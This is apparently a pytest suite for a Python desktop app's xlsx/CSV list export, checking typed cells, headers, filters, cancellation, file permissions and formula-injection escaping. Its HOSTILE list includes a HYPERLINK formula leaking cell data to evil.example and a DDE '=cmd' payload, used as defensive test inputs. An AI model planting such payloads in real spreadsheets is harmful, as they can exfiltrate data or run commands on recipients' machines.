"""Export of lists to xlsx and CSV: typed cells, inert text, headers, filters, cancel, privacy."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from coop_desktop import tabular
from coop_desktop.db.repositories.enterprises import EnterpriseQuery
from coop_desktop.errors import CoopError
from coop_desktop.exchange import export as ex
from coop_desktop.exchange import export_lists, export_writers
from coop_desktop.exchange.export_table import column_widths, display_width
from coop_desktop.fileio import is_private
from coop_desktop.i18n.catalog import translator
from coop_desktop.services import enterprises
from coop_desktop.services.catalog import glossary, titles

#: Text that a spreadsheet would read as a formula (or an error value, or split).
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1",
           "-2+3", "@SUM(A1:A9)", "＝1+1", "＋86 755", "#N/A", "'quoted"]
#: Prose may hold control characters (shown in the UI); some XML cannot hold.
PROSE = ["\t=1+1", "\r=1+1", "\n=1+1", "\x00=1", "a\x07b _x0041_ c", "=1\n+2"]


def _make(db, uscc, **values):
    base = {"name_zh": "深圳测试科技有限公司", "uscc": uscc, "city_code": "440300",
            "industry": "industry", "employees": 120, "revenue_fen": 1_234_567_89,
            "total_assets_fen": 300_000_000_00, "main_business_share": Decimal("65.50"),
            "established_on": date(2012, 3, 4), "tags": ["出口"],
            "target_countries": ["DE", "CZ"]}
    return enterprises.create(db, base | values).value


@pytest.fixture
def firms(db, new_uscc):
    made = {
        "a": _make(db, new_uscc(), name_zh="阿尔法精密机械有限公司", name_en="Alpha Precision"),
        "b": _make(db, new_uscc("110000"), name_zh="北京贝塔软件有限公司", name_en="Beta Soft",
                   city_code="110000", industry="software_it", revenue_fen=None, employees=0),
        "c": _make(db, new_uscc(), name_zh="=HYPERLINK(\"http://x\")", name_en="+1+1",
                   legal_rep="@SUM(A1)", description_zh=PROSE[5], description_en=PROSE[4],
                   address_zh="\x00=1", tags=["=cmd", "＝1+1"]),
    }
    titles.create(db, {"enterprise_id": made["a"].id, "tier": "srdi", "level": "provincial",
                       "expires_on": date(2020, 1, 1)})  # the ladder: SRDI first (expired)
    titles.create(db, {"enterprise_id": made["a"].id, "tier": "little_giant",
                       "level": "national", "expires_on": date(2099, 1, 1)})
    return made


def _sheet(path: Path):
    wb = openpyxl.load_workbook(path)
    return wb.active


def _records(ws) -> list[dict[str, object]]:
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def _cells(ws) -> list[dict[str, object]]:
    rows = list(ws.iter_rows())
    head = [c.value for c in rows[0]]
    return [dict(zip(head, r, strict=True)) for r in rows[1:]]


def test_xlsx_cells_are_typed(db, firms, tmp_path):
    path = tmp_path / "list.xlsx"
    result = ex.run(ex.export(db, "enterprises", path, headers="en", language="en"))
    assert (result.rows, result.format) == (3, "xlsx")
    ws = _sheet(path)
    row = next(r for r in _cells(ws) if r["Company name"].value == "阿尔法精密机械有限公司")
    employees = row["Employees"]
    assert employees.value == 120 and employees.data_type == "n"
    revenue = row["Operating revenue (CNY 10,000)"]  # fen 123,456,789 = 123.456789 万元
    assert revenue.data_type == "n" and revenue.value == pytest.approx(123.456789)
    assert revenue.number_format == "#,##0.00####"
    assets = row["Total assets (CNY 10,000)"]
    assert assets.value == 30_000 and isinstance(assets.value, int)
    share = row["Main-business revenue share"]
    assert share.value == pytest.approx(0.655) and share.number_format == "0.00%"
    founded = row["Established on"]
    assert founded.is_date and founded.value == datetime(2012, 3, 4)
    assert founded.number_format == "yyyy-mm-dd"
    updated = row["Updated"]
    assert updated.is_date and isinstance(updated.value, datetime)
    assert row["Province"].value == "Guangdong" and row["Industry"].value.startswith("Industry")
    assert row["Target countries"].value == "DE, CZ" and row["Tags"].value == "出口"
    assert row["SRDI titles"].value == "SRDI Little Giant (National)"
    empty = next(r for r in _cells(ws) if r["English name"].value == "Beta Soft")
    assert empty["Operating revenue (CNY 10,000)"].value is None
    assert empty["Employees"].value == 0 and empty["Employees"].data_type == "n"


def test_header_is_frozen_styled_and_in_the_chosen_languages(db, firms, tmp_path):
    for headers, first in (("zh", "企业名称"), ("en", "Company name"),
                           ("both", "企业名称 / Company name")):
        path = tmp_path / f"{headers}.xlsx"
        ex.run(ex.export(db, "enterprises", path, headers=headers,
                         columns=["name_zh", "revenue_fen"]))
        ws = _sheet(path)
        assert ws.freeze_panes == "A2"
        assert ws["A1"].value == first and ws["A1"].font.b
        assert ws["B1"].value == {"zh": "营业收入（万元）", "en": "Operating revenue (CNY 10,000)",
                                  "both": "营业收入（万元） / Operating revenue (CNY 10,000)"}[headers]
        assert ws.auto_filter.ref == "A1:B4"
        assert ws.print_title_rows == "$1:$1"


def test_column_widths_count_cjk_characters_double():
    assert display_width("企业") == 4 and display_width("ab") == 2
    column = export_lists.ENTERPRISE_COLUMNS[0]  # name_zh, sized from its values
    row = type("Row", (), {"name_zh": "深" * 20})()
    assert column_widths([column], "zh", [row], "zh_CN") == [42]
    row.name_zh = "x" * 20
    assert column_widths([column], "zh", [row], "zh_CN") == [22]
    row.name_zh = "深" * 200
    assert column_widths([column], "zh", [row], "zh_CN") == [60]


def test_the_written_widths_follow_the_content(db, firms, tmp_path):
    path = tmp_path / "w.xlsx"
    ex.run(ex.export(db, "enterprises", path, columns=["name_zh", "uscc", "employees"],
                     headers="zh"))
    dims = _sheet(path).column_dimensions
    assert dims["A"].width == display_width("阿尔法精密机械有限公司") + 2  # the longest name
    assert dims["B"].width == 22  # USCC: fixed


def test_hostile_text_is_a_plain_string_cell_in_xlsx(db, firms, tmp_path):
    path = tmp_path / "hostile.xlsx"
    ex.run(ex.export(db, "enterprises", path, headers="en"))
    ws = _sheet(path)
    row = next(r for r in _cells(ws) if r["English name"].value == "+1+1")
    for header, original in (("Company name", '=HYPERLINK("http://x")'), ("English name", "+1+1"),
                             ("Legal representative", "@SUM(A1)"),
                             ("Description (Chinese)", PROSE[5]), ("Address (Chinese)", "\x00=1"),
                             ("Tags", ", ".join(firms["c"].tags))):
        cell = row[header]
        assert cell.data_type == "s", header
        assert tabular.xlsx_restore(cell.value) == original, header
        assert cell.quotePrefix, header
    assert tabular.xlsx_restore(row["Description (English)"].value) == PROSE[4]
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere


@pytest.mark.parametrize("text", HOSTILE + PROSE)
def test_every_hostile_string_stays_text_through_the_writer(tmp_path, text):
    """The writer itself, with each string (openpyxl alone makes "=…" a formula and "#N/A"
    an error value)."""
    column = export_lists.GLOSSARY_COLUMNS[2]  # note: prose
    listing = ex.Listing("glossary", "术语", "Terms", [column], 1,
                         lambda: iter([[type("R", (), {"note": text})()]]))
    path = tmp_path / "one.xlsx"
    ex.run(ex.export_listing(listing, path))
    cell = _sheet(path)["A2"]
    assert cell.data_type == "s" and tabular.xlsx_restore(cell.value) == text
    csv_path = tmp_path / "one.csv"
    ex.run(ex.export_listing(listing, csv_path))
    rows = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"), newline="")))
    assert tabular.restore_cell(rows[1][0]) == text
    assert rows[1][0] == text or rows[1][0] == "'" + text


def test_csv_is_utf8_with_bom_crlf_and_inert(db, firms, tmp_path):
    path = tmp_path / "list.csv"
    ex.run(ex.export(db, "enterprises", path, headers="both"))
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    # CRLF ends the header and the three records; the one bare LF is inside a quoted text
    assert raw.endswith(b"\r\n") and raw.count(b"\r\n") == 4
    assert raw.replace(b"\r\n", b"").count(b"\n") == PROSE[5].count("\n")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    head = rows[0]
    assert head[0] == "企业名称 / Company name"
    records = [dict(zip(head, r, strict=True)) for r in rows[1:]]
    hostile = next(r for r in records if r["英文名称 / English name"] == "'+1+1")
    assert hostile["企业名称 / Company name"] == "'=HYPERLINK(\"http://x\")"
    assert hostile["法定代表人 / Legal representative"] == "'@SUM(A1)"
    assert tabular.restore_cell(hostile["企业简介 / Description (Chinese)"]) == PROSE[5]
    assert hostile["标签 / Tags"] == "'" + ", ".join(firms["c"].tags)
    plain = next(r for r in records if r["英文名称 / English name"] == "Alpha Precision")
    assert plain["营业收入（万元） / Operating revenue (CNY 10,000)"] == "123.456789"
    assert plain["资产总额（万元） / Total assets (CNY 10,000)"] == "30000"
    assert plain["主营业务收入占比 / Main-business revenue share"] == "65.5%"
    assert plain["成立日期 / Established on"] == "2012-03-04"
    assert plain["从业人员（人） / Employees"] == "120"
    assert plain["省份 / Province"] == "广东省" and plain["所属行业 / Industry"] == "工业"


def test_filter_sort_and_columns_are_respected(db, firms, tmp_path, monkeypatch):
    monkeypatch.setattr(export_lists, "BLOCK", 1)  # one row per block: streaming exercised
    path = tmp_path / "gd.xlsx"
    query = EnterpriseQuery(province_code="440000", sort="name_en", descending=True)
    result = ex.run(ex.export(db, "enterprises", path, query=query, headers="en",
                              columns=["name_en", "uscc", "province"]))
    ws = _sheet(path)
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("English name", "USCC", "Province")
    assert [r[0] for r in rows[1:]] == ["Alpha Precision", "+1+1"]  # no Beijing; descending
    assert result.rows == 2 and result.columns == 3
    tagged = tmp_path / "tag.csv"
    ex.run(ex.export(db, "enterprises", tagged, query=EnterpriseQuery(text="贝塔"),
                     columns=["name_zh"], headers="zh"))
    assert tagged.read_bytes().decode("utf-8-sig").split("\r\n")[1] == "北京贝塔软件有限公司"


def test_deleted_enterprises_are_not_exported_from_the_live_list(db, firms, tmp_path):
    enterprises.delete(db, [firms["b"].id])
    path = tmp_path / "live.csv"
    assert ex.run(ex.export(db, "enterprises", path, columns=["name_zh"])).rows == 2


def test_unknown_columns_formats_and_header_languages_are_refused(db, firms, tmp_path):
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    with pytest.raises(CoopError, match="Unknown column “nope”"):
        ex.run(ex.export(db, "enterprises", tmp_path / "x.xlsx", columns=["name_zh", "nope"]))
    with pytest.raises(CoopError, match="Cannot tell the format"):
        ex.run(ex.export(db, "enterprises", tmp_path / "x.pdf"))
    with pytest.raises(CoopError, match="header language"):
        ex.run(ex.export(db, "enterprises", tmp_path / "x.csv", headers="fr"))
    with pytest.raises(CoopError, match="is a folder"):
        ex.run(ex.export(db, "enterprises", tmp_path, fmt="csv"))
    assert ex.format_of("a.XLSX") == "xlsx" and ex.format_of("a.txt") == "csv"
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_cancel_leaves_no_file_and_keeps_an_older_one(db, firms, tmp_path, monkeypatch, suffix):
    from openpyxl.worksheet import _writer

    monkeypatch.setattr(export_lists, "BLOCK", 1)
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    target = tmp_path / f"list.{suffix}"
    job = ex.export(db, "enterprises", target)
    assert next(job) == (0, 3) and next(job) == (1, 3)
    job.close()  # Cancel
    assert list(tmp_path.iterdir()) == []
    assert all(not Path(p).exists() for p in _writer.ALL_TEMP_FILES)  # no sheet file left
    target.write_bytes(b"older")
    job = ex.export(db, "enterprises", target)
    next(job), next(job)
    job.close()
    assert target.read_bytes() == b"older" and list(tmp_path.iterdir()) == [target]


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_exported_files_are_private(db, firms, tmp_path, suffix):
    target = tmp_path / f"list.{suffix}"
    target.write_bytes(b"x")
    target.chmod(0o644)
    ex.run(ex.export(db, "enterprises", target))
    assert is_private(target) and target.stat().st_mode & 0o777 == 0o600


def test_an_empty_list_writes_the_header(db, tmp_path):
    path = tmp_path / "none.xlsx"
    assert ex.run(ex.export(db, "enterprises", path, headers="zh")).rows == 0
    assert [c.value for c in _sheet(path)[1]][:2] == ["企业名称", "英文名称"]


def test_small_lists_follow_the_given_ids(db, tmp_path):
    a = glossary.create(db, {"zh": "合作区", "en": "cooperation zone"}).value
    b = glossary.create(db, {"zh": "出海", "en": "going abroad", "note": "=1+1"}).value
    path = tmp_path / "terms.csv"
    result = ex.run(ex.export(db, "glossary", path, ids=[b.id, a.id], headers="zh"))
    lines = path.read_bytes().decode("utf-8-sig").split("\r\n")
    assert result.rows == 2
    assert lines[:3] == ["中文术语,英文术语,备注", "出海,going abroad,'=1+1",
                         "合作区,cooperation zone,"]
    zones = tmp_path / "zones.xlsx"
    assert ex.run(ex.export(db, "zones", zones)).rows > 0  # the shipped reference zones
    ws = _sheet(zones)
    year = next(r for r in _cells(ws) if r["认定年份 / Recognised in"].value)
    assert year["认定年份 / Recognised in"].data_type == "n"
    with pytest.raises(CoopError, match="Unknown list"):
        ex.listing_for(db, "contacts")


def test_an_xlsx_over_the_excel_row_limit_is_refused_before_writing(tmp_path, monkeypatch):
    monkeypatch.setattr(ex, "XLSX_MAX_ROWS", 2)
    listing = ex.Listing("glossary", "t", "t", export_lists.GLOSSARY_COLUMNS, 3, lambda: iter([]))
    with pytest.raises(CoopError, match="more than an Excel sheet holds"):
        ex.run(ex.export_listing(listing, tmp_path / "big.xlsx"))
    assert not (tmp_path / "big.xlsx").exists()


def test_sheet_names_are_what_excel_accepts():
    assert export_writers.sheet_name("a/b:c*d?[e]") == "a b c d  e"
    assert len(export_writers.sheet_name("x" * 40)) == 31
    assert export_writers.sheet_name("''") == "Sheet1"


def test_labels_follow_the_language(db, firms, tmp_path):
    path = tmp_path / "zh.csv"
    ex.run(ex.export(db, "enterprises", path, headers="zh", language="zh_CN",
                     columns=["name_zh", "legal_form", "size_class", "srdi_titles"]))
    text = path.read_bytes().decode("utf-8-sig")
    assert "专精特新“小巨人”企业（国家级）" in text or "（国家级）" in text
    assert translator("zh_CN").gettext("SRDI Little Giant") in text


@given(st.text())
def test_xlsx_text_escapes_round_trip(text):
    written = tabular.xlsx_text(text)
    assert tabular.xlsx_restore(written) == text
    assert not any(ord(c) < 0x20 and c not in "\t\n" for c in written)
